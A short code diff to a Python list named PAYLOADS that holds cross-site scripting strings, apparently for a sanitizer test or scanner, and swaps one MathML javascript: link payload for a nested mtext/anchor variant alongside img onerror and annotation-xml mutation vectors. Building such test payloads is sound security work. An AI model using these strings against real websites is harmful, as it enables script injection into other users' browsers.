@@ -12,7 +12,7 @@ PAYLOADS = [
     f'onerror=alert(1)&gt;"><img src=x onerror="{JS}">',
     f'<math><annotation-xml encoding="text/html"><img src=x onerror="{JS}">'
     "</annotation-xml></math>",
-    f'<math href="javascript:{JS}"><mi>x</mi></math>',
+    f'<math><mtext><a href="javascript:{JS}">x</a></mtext></math>',
 ]
 
 
